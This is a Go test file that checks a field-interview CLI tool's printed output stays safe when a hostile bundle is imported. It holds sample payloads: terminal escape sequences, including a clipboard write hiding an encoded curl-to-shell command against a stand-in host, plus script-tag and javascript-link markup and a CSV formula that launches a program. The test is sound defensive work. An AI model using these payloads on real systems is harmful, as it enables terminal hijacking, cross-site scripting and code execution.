package cli

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"fieldscreen/internal/record"
	"fieldscreen/internal/session"
	"fieldscreen/internal/store"
	"fieldscreen/questionnaire"
)

// Text from a bundle and its flow reaches every command that prints. An
// attacker who writes a bundle chooses the interviewer's name, the
// location, the free-text answers and audit details (where escape
// sequences can hide), and the flow's title, labels, outcomes and
// version (a flow holding a control character is refused at load, see
// questionnaire's TestHostileFlowText, so these carry HTML, Markdown
// links and spreadsheet formulas).
const (
	// retitle the terminal, set its clipboard (OSC 52), clear it, an
	// 8-bit CSI, a bidi override and a carriage return that overwrites
	// the line
	ctlPayload     = "\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\u009b31m\u202eevil\u202c\rforged"
	htmlPayload    = "<script>alert(1)</script>"
	linkPayload    = "[x](javascript:alert(1))"
	formulaPayload = "=cmd|' /C calc'!A0"
)

const hostileFlowYAML = `id: hostile-flow
version: "=cmd|' /C calc'!A0"
default_language: en
languages: [en]
title: {en: "<script>alert(1)</script> [x](javascript:alert(1))"}
sections:
  - id: s
    title: {en: "[x](javascript:alert(1))"}
    questions:
      - id: consent
        type: yes_no
        required: true
        label: {en: "Consent? <script>alert(1)</script>"}
        ends_interview_if: consent == "no"
      - id: town
        type: text
        label: {en: "=cmd|' /C calc'!A0 [x](javascript:alert(1))"}
      - id: needs
        type: multi
        label: {en: "Needs <img src=x onerror=alert(1)>"}
        choices:
          - {value: shelter, label: {en: "[x](javascript:alert(1))"}}
          - {value: none, label: {en: "=1+1"}, exclusive: true}
findings:
  - id: outcome
    field: outcome
    label: {en: "<script>alert(1)</script>"}
    cases:
      - value: "=cmd|' /C calc'!A0"
        label: {en: "=cmd|' /C calc'!A0 <script>alert(1)</script>"}
        when: has(needs, "shelter")
      - value: "<script>alert(1)</script>"
        label: {en: "[x](javascript:alert(1))"}
referrals:
  - id: shelter
    label: {en: "<script>alert(1)</script>"}
    when: has(needs, "shelter")
    priority: [{value: urgent}]
cautions:
  - id: careful
    label: {en: "[x](javascript:alert(1))"}
    when: real(town)
`

// unescapedMarkup is a tag or a link from the payloads, not escaped.
var unescapedMarkup = regexp.MustCompile(`(^|[^\\])(<script|<img|\]\(javascript:)`)

// terminalUnsafe reports the first character in out that could drive a
// terminal, or "".
func terminalUnsafe(out string) string {
	for _, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r < 0xa0) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			return string(r)
		}
	}
	return ""
}

// TestHostileTextEveryCommand plays a hostile bundle through every
// command that prints: verify, import (refused, dry run, accepted), list,
// show (text, json, markdown), score (every format, stored and --from the
// bundle), export --format csv, check, purge --dry-run, completion, flow
// print and validate. No output may hold a character that drives a
// terminal; Markdown must hold no HTML tag or link from the bundle; no
// CSV cell may start a formula.
func TestHostileTextEveryCommand(t *testing.T) {
	dir := t.TempDir()
	flowPath := filepath.Join(dir, "hostile.yaml")
	if err := os.WriteFile(flowPath, []byte(hostileFlowYAML), 0o600); err != nil {
		t.Fatal(err)
	}
	f, err := questionnaire.Load(flowPath, []byte(hostileFlowYAML))
	if err != nil {
		t.Fatal(err)
	}

	// The sender's laptop: an interview whose names, answer and audit
	// trail hold the payloads.
	src := filepath.Join(dir, "src.db")
	st, err := store.Create(src, []byte("purge test passphrase"))
	if err != nil {
		t.Fatal(err)
	}
	at := time.Now().UTC().Add(-time.Hour)
	iv, err := session.New(st, f, ctlPayload+" Eve", ctlPayload+htmlPayload, "en", at)
	if err != nil {
		t.Fatal(err)
	}
	for i, a := range []struct {
		q string
		v any
	}{{"consent", "yes"}, {"town", formulaPayload + ctlPayload + htmlPayload + linkPayload}, {"needs", []string{"shelter"}}} {
		if _, err := session.Answer(iv, f, a.q, a.v, at.Add(time.Duration(i)*time.Second)); err != nil {
			t.Fatal(err)
		}
	}
	if err := session.Complete(iv, f, at.Add(time.Minute)); err != nil {
		t.Fatal(err)
	}
	iv.Audit = append(iv.Audit, record.AuditEvent{At: at.Add(2 * time.Minute), Event: "note" + ctlPayload, Interviewer: ctlPayload, Detail: ctlPayload + htmlPayload + linkPayload + formulaPayload})
	if err := st.Put(iv); err != nil {
		t.Fatal(err)
	}
	st.Close()
	bundle := filepath.Join(dir, "bundle.json")
	if code, out, errs := runCLI(t, src, "export", "--all", "-o", bundle, "--purpose", htmlPayload+linkPayload+formulaPayload, "--plaintext", "--interviewer", htmlPayload); code != 0 {
		t.Fatalf("export: exit %d\n%s%s", code, out, errs)
	}

	// The caseworker trusts the sender's signing key.
	pubKey := filepath.Join(dir, "sender.pub")
	if code, out, errs := runCLI(t, src, "key", "signing"); code != 0 || os.WriteFile(pubKey, []byte(out), 0o600) != nil {
		t.Fatalf("key signing: exit %d\n%s", code, errs)
	}

	// The caseworker's laptop.
	db := filepath.Join(dir, "dst.db")
	short := iv.ID[len(iv.ID)-8:]
	type run struct {
		args     []string
		code     int    // the exit code expected
		markdown bool   // stdout is Markdown
		csvFile  string // a CSV file it writes
		csvOut   bool   // stdout is CSV
		shows    string // a remnant of a payload its output must show (defused, not dropped)
	}
	runs := []run{
		{args: []string{"verify", bundle, "--trust", pubKey}, shows: "NOT KNOWN"},
		{args: []string{"import", bundle, "--trust", pubKey}, code: ExitError},
		{args: []string{"import", bundle, "--trust", pubKey, "--dry-run", "--accept-flow", f.Hash}},
		{args: []string{"import", bundle, "--trust", pubKey, "--accept-flow", f.Hash}},
		{args: []string{"verify", bundle, "--trust", pubKey, "--accept-flow", f.Hash}},
		{args: []string{"list"}, shows: "pwned"},
		{args: []string{"list", "--format", "json"}},
		{args: []string{"show", short}, shows: "pwned"},
		{args: []string{"show", short, "--format", "json"}},
		{args: []string{"show", short, "--format", "markdown"}, markdown: true, shows: `\[x\](javascript`},
		{args: []string{"score", "--all"}},
		{args: []string{"score", "--all", "--format", "table"}},
		{args: []string{"score", "--all", "--format", "json"}},
		{args: []string{"score", "--all", "--format", "jsonl"}},
		{args: []string{"score", "--all", "--format", "csv"}, csvOut: true, shows: "'=cmd"},
		{args: []string{"score", "--from", bundle}},
		{args: []string{"score", "--from", bundle, "--format", "csv"}, csvOut: true},
		{args: []string{"export", "--all", "--format", "csv", "-o", filepath.Join(dir, "out.csv"), "--purpose", "statistics", "--plaintext"}, csvFile: filepath.Join(dir, "out.csv")},
		{args: []string{"check"}},
		{args: []string{"purge", "--older-than", "1d", "--dry-run"}},
		{args: []string{"__complete", "show", ""}, shows: "pwned"},
		{args: []string{"__complete", "delete", ""}},
		{args: []string{"flow", "print", flowPath}},
		{args: []string{"flow", "print", flowPath, "--format", "markdown"}, markdown: true, shows: `\<script\>`},
		{args: []string{"flow", "validate", flowPath}},
	}
	for _, r := range runs {
		name := strings.Join(r.args, " ")
		name = strings.ReplaceAll(name, dir+"/", "")
		code, out, errs := runCLI(t, db, r.args...)
		if code != r.code {
			t.Errorf("%s: exit %d, want %d\n%s%s", name, code, r.code, out, errs)
			continue
		}
		if r.shows != "" && !strings.Contains(out, r.shows) {
			t.Errorf("%s: the output does not show %q:\n%s", name, r.shows, out)
		}
		for what, s := range map[string]string{"stdout": out, "stderr": errs} {
			if c := terminalUnsafe(s); c != "" {
				t.Errorf("%s: %s holds %q:\n%q", name, what, c, s)
			}
		}
		if r.markdown {
			if m := unescapedMarkup.FindString(out); m != "" {
				t.Errorf("%s: the Markdown holds %q unescaped:\n%s", name, m, out)
			}
		}
		csvs := map[string]string{}
		if r.csvOut {
			csvs["stdout"] = out
		}
		if r.csvFile != "" {
			b, err := os.ReadFile(r.csvFile)
			if err != nil {
				t.Fatal(err)
			}
			csvs[r.csvFile] = string(b)
			if c := terminalUnsafe(string(b)); c != "" {
				t.Errorf("%s: the CSV file holds %q", name, c)
			}
		}
		for what, s := range csvs {
			rows, err := csv.NewReader(strings.NewReader(s)).ReadAll()
			if err != nil {
				t.Errorf("%s: %s is not CSV: %v", name, what, err)
				continue
			}
			if len(rows) < 2 {
				t.Errorf("%s: %s has no rows:\n%s", name, what, s)
			}
			for _, row := range rows {
				for _, cell := range row {
					if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
						t.Errorf("%s: %s has a formula cell %q", name, what, cell)
					}
				}
			}
		}
	}
}
